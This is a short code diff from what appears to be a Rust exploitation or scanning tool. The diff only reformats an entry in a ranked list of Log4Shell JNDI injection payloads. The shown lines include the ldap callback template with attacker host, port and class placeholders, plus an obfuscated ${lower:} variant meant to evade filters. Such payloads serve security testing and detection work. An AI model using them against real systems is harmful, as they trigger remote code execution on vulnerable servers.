@@ -10,11 +10,7 @@ const fn jndi(id: &'static str, template: &'static str, why: &'static str) -> Pa
 
 /// Best first.
 pub(super) const PAYLOADS: &[Payload] = &[
-    jndi(
-        "log4shell-ldap",
-        "${jndi:ldap://{A}:{P}/{C}}",
-        "Log4j 2.0 to 2.14 resolves lookups in messages",
-    ),
+    jndi("log4shell-ldap", "${jndi:ldap://{A}:{P}/{C}}", "Log4j 2.0 to 2.14 resolves lookups in messages"),
     jndi(
         "log4shell-lower",
         "${${lower:j}${lower:n}di:${lower:l}dap://{A}:{P}/{C}}",
